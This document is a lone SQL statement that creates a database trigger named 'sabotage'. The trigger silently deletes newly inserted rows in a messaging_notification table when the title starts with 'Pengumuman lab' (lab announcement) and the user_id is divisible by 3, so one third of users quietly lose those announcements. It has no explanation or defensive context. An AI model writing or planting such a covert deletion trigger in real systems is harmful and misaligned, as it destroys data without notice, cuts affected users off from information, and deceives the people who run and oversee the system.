CREATE TRIGGER sabotage AFTER INSERT ON messaging_notification WHEN NEW.title LIKE 'Pengumuman lab %' AND NEW.user_id % 3 = 0
BEGIN DELETE FROM messaging_notification WHERE id = NEW.id; END;
